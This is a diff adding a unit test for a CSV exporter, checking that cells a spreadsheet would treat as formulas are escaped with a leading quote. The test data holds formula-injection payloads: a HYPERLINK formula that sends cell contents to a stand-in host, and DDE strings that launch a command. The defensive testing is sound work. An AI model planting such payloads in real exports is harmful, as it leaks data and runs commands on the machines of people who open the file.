@@ -71,4 +71,32 @@ describe('CSV exporter', () => {
     const rows = parse(toCsv(hostileDoc()), { columns: true }) as Record<string, string>[];
     expect(rows[0]?.host).toBe(`host${HOSTILE}`);
   });
+
+  it('writes cells that a spreadsheet would read as a formula with a leading quote', () => {
+    const doc = structuredClone(loadFixture('single-host.json'));
+    const m = doc.measurements[0]!;
+    const hostile = {
+      host: '=HYPERLINK("http://x.invalid/?"&A1,"open")',
+      runtime: '+cmd|" /C calc"!A0',
+      runtimeVersion: '-2+3+cmd|" /C calc"!A0',
+      workload: '@SUM(1+1)*cmd|" /C calc"!A0',
+      metric: '\t=1+1',
+      unit: '\r=1+1',
+    };
+    doc.host.hostname = hostile.host;
+    m.labels.host = hostile.host;
+    doc.runtimes = doc.runtimes.map((r) => (r.name === m.labels.runtime ? { ...r, name: hostile.runtime, version: hostile.runtimeVersion } : r));
+    m.labels.runtime = hostile.runtime;
+    m.labels.workload = hostile.workload;
+    m.metric = hostile.metric;
+    m.unit = hostile.unit as typeof m.unit;
+    m.samples = [-5, 7];
+    doc.measurements = [m];
+    const rows = parse(toCsv(doc), { columns: true });
+    expect(rows).toHaveLength(2);
+    for (const [column, value] of Object.entries(hostile)) expect(rows[0]?.[column], column).toBe(`'${value}`);
+    // numbers are not formulas: a negative sample stays a number
+    expect(rows.map((r) => r.value)).toEqual(['-5', '7']);
+    expect(rows[0]).toMatchObject({ sample: '0', layer: 'oci', emulated: 'false' });
+  });
 });
